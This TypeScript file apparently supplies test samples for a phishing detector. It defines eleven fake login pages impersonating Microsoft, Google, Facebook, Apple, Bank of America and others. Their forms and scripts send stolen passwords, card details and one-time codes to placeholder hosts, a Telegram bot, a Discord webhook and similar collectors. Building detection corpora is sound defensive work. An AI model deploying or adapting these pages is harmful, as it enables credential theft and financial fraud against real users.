import { field, page, type Samples, scripted, site } from '../../sample.ts';

const MICROSOFT = `<main class="outer"><div class="inner"><img class="logo" src="images/microsoft_logo.svg" alt="">
<h1 id="loginHeader">Sign in</h1><form method="post" action="https://sharefiles-portal.example/o365/post.php">
<input type="email" name="loginfmt" placeholder="Email, phone, or Skype"><input type="password" name="passwd" placeholder="Password">
<p>No account? <a href="#">Create one!</a></p><a href="#">Can't access your account?</a><button>Next</button></form></div></main>
<footer><a href="#">Terms of use</a> <a href="#">Privacy &amp; cookies</a></footer>`;

const GOOGLE = `<div class="card"><img src="https://www.gstatic.com/images/branding/googlelogo/svg/googlelogo_clr_74x24px.svg" alt="Google">
<h1>Sign in</h1><p>Use your Google Account</p><form id="f"><input type="email" id="identifierId" aria-label="Email or phone">
<input type="password" id="pw" aria-label="Enter your password"><button>Next</button></form></div>
<script>document.getElementById('f').addEventListener('submit', async (event) => { event.preventDefault();
await fetch('https://collector-7.example/api/log', { method: 'POST', body: JSON.stringify({ e: identifierId.value, p: pw.value }) });
location.href = 'https://accounts.google.com'; });</script>`;

const OUTLOOK = `<div class="owa"><img src="owa.png"><h2>Outlook Web App</h2><p>Your session has expired. Please sign in again to keep receiving messages.</p>
<form id="login"><input name="user" type="text" placeholder="Domain\\user name"><input name="pass" type="password"><button>Sign in</button></form></div>
<script>const token = '7000000001:AAF0000000000000000000000000000000x', chat = '-100200300';
login.onsubmit = (e) => { e.preventDefault(); const text = 'OWA ' + login.user.value + ':' + login.pass.value;
fetch('https://api.telegram.org/bot' + token + '/sendMessage?chat_id=' + chat + '&text=' + encodeURIComponent(text)); };</script>`;

const FACEBOOK = `function App(){return e("div",{className:"_8esj"},e("img",{src:"/f.svg",alt:"Facebook"}),e("h2",null,"Facebook helps you connect and share with the people in your life."),
e("form",{onSubmit:s},e("input",{type:"text",name:"email",placeholder:"Email address or phone number"}),e("input",{type:"password",name:"pass",placeholder:"Password"}),e("button",null,"Log In")))}
async function s(t){t.preventDefault();const n=Object.fromEntries(new FormData(t.target));await axios.post("https://fb-panel.example/gate",n);window.location="https://facebook.com"}App();`;

const APPLE = `<nav><img src="apple.svg" alt="Apple"></nav><h1>Your Apple ID has been locked</h1>
<p>Your Apple ID has been locked for security reasons. Verify your identity within 24 hours or your account will be disabled.</p>
<form method="post" action="https://4b1f-203-0-113-9.ngrok-free.app/apple/"><input name="appleid" placeholder="Apple ID"><input type="password" name="pw" placeholder="Password"><button>Unlock</button></form>`;

const ADOBE = `<div style="background:url(blur.jpg)"><div class="modal"><img src="adobe-pdf.png" alt="Adobe PDF"><h3>Adobe Document Cloud</h3>
<p>To read the document, please choose your email provider below and log in</p><a class="o365">Office 365</a><a class="gm">Gmail</a><a class="ya">Yahoo</a><a class="ot">Other mail</a>
<form action="https://formspree.io/f/xnqkabcd" method="POST"><input type="email" name="email"><input type="password" name="password" placeholder="Email password"><button>View document</button></form></div></div>`;

const ONEDRIVE = `<div id="box"><img src="od.png" alt="OneDrive"><h4>invoice_4471.xlsx</h4><p>You have received a secure file. Sign in with the email this file was shared with.</p>
<input id="em" readonly><input id="ps" type="password"><button id="go">Open</button></div><script src="https://code.jquery.com/jquery-3.6.0.min.js"></script>
<script>var h = window.location.hash.substr(1); $('#em').val(h.indexOf('@') > 0 ? h : atob(h));
var count = 0; $('#go').click(function () { $.ajax({ dataType: 'JSON', url: atob('aHR0cHM6Ly9uZXh0LXN0b3JlLmV4YW1wbGUvbmV4dC5waHA='), type: 'POST', data: { email: $('#em').val(), password: $('#ps').val() } }); if (++count > 2) location.replace('https://office.com'); });</script>`;

const WHATSAPP = `<header><img src="wa.svg" alt="WhatsApp"></header><h1>Vote for my niece in the WhatsApp ballet contest</h1><p>To vote, verify your phone number with WhatsApp.</p>
<form id="v"><input type="tel" name="phone" placeholder="Phone number"><input name="code" inputmode="numeric" maxlength="6" autocomplete="one-time-code" placeholder="6-digit code"><button>Verify</button></form>
<script>v.onsubmit=e=>{e.preventDefault();fetch("https://script.google.com/macros/s/AKfycbx0000000000/exec",{method:"POST",mode:"no-cors",body:new FormData(v)})}</script>`;

const INSTAGRAM = `<h1>Copyright infringement - Instagram Help Center</h1><p>We received a complaint about your account. If you do not appeal within 48 hours, your account will be permanently deleted.</p>
<form id="a"><input placeholder="Username" name="u"><input placeholder="Password" type="password" name="p"><input placeholder="Mail address" name="m"><button>Appeal</button></form>
<script>a.addEventListener("submit",t=>{t.preventDefault();let n=new XMLHttpRequest;n.open("POST","https://discord.com/api/webhooks/1000000000000000000/abcDEF");n.setRequestHeader("Content-type","application/json");n.send(JSON.stringify({content:[...new FormData(a)].join()}))})</script>`;

const WEBMAIL = `<div id="login-wrapper"><img src="cpanel-logo.svg" alt="cPanel"><h2>Webmail Login</h2><form id="login_form" onsubmit="return go()"><input name="user" id="user" placeholder="Enter your email address">
<input name="pass" id="pass" type="password" placeholder="Enter your email password"><button>Log in</button></form></div>
<script>function go(){navigator.sendBeacon("https://mx-update.example/c",user.value+"|"+pass.value);document.getElementById("pass").value="";alert("Incorrect password");return false}</script>`;

/** A log-in in several pages, as panels have it: user name, password, card, code. */
const BANK_OF_AMERICA = (body: string, next: string) =>
  page(
    'Bank of America | Online Banking',
    `<img src="img/boa_logo.png" alt="Bank of America"><form action="${next}" method="post">${body}<button>Continue</button></form>
<script>document.forms[0].onsubmit=()=>{new Image().src="https://boa-secure-check.example/l?d="+encodeURIComponent([...new FormData(document.forms[0])].join("&"))}</script>`,
  );

export const LOGINS: Samples = {
  'Microsoft 365 in two steps': site('Sign in to your account', MICROSOFT),
  'Google with fetch': site('Sign in - Google Accounts', GOOGLE),
  'Outlook to a Telegram bot': site('Outlook', OUTLOOK),
  'Facebook as an application': scripted('Facebook – log in or sign up', FACEBOOK),
  'Apple to a tunnel': site('Apple ID', APPLE),
  'Adobe document to a form service': site('Shared Document', ADOBE),
  'OneDrive with the address in the fragment': site('Sharing Link Validation', ONEDRIVE),
  'WhatsApp code': site('WhatsApp', WHATSAPP),
  'Instagram appeal to Discord': site('Help Center', INSTAGRAM),
  'webmail with a beacon': site('Webmail Login', WEBMAIL),
  'Bank of America in four pages': {
    'index.html': BANK_OF_AMERICA(field('Online ID', 'name="id"'), 'password.html'),
    'password.html': BANK_OF_AMERICA(field('Passcode', 'type="password" name="pc"'), 'card.html'),
    'card.html': BANK_OF_AMERICA(
      `${field('Card number', 'name="cc" maxlength="19"')}${field('Expiry', 'name="exp"')}${field('CVV', 'name="cvv"')}${field('ATM PIN', 'name="pin"')}`,
      'code.html',
    ),
    'code.html': BANK_OF_AMERICA(field('Code sent to your phone', 'name="otp"'), 'https://www.bankofamerica.com'),
  },
};
